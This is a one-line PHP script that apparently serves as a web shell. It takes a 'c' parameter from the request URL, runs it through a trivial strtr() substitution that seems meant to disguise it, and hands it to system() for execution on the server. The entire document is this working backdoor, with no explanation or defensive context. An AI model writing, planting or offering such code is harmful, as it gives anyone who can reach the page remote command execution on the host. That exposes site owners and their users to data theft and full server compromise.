<?php $c = strtr("X", ["X" => $_GET["c"]]); system($c);
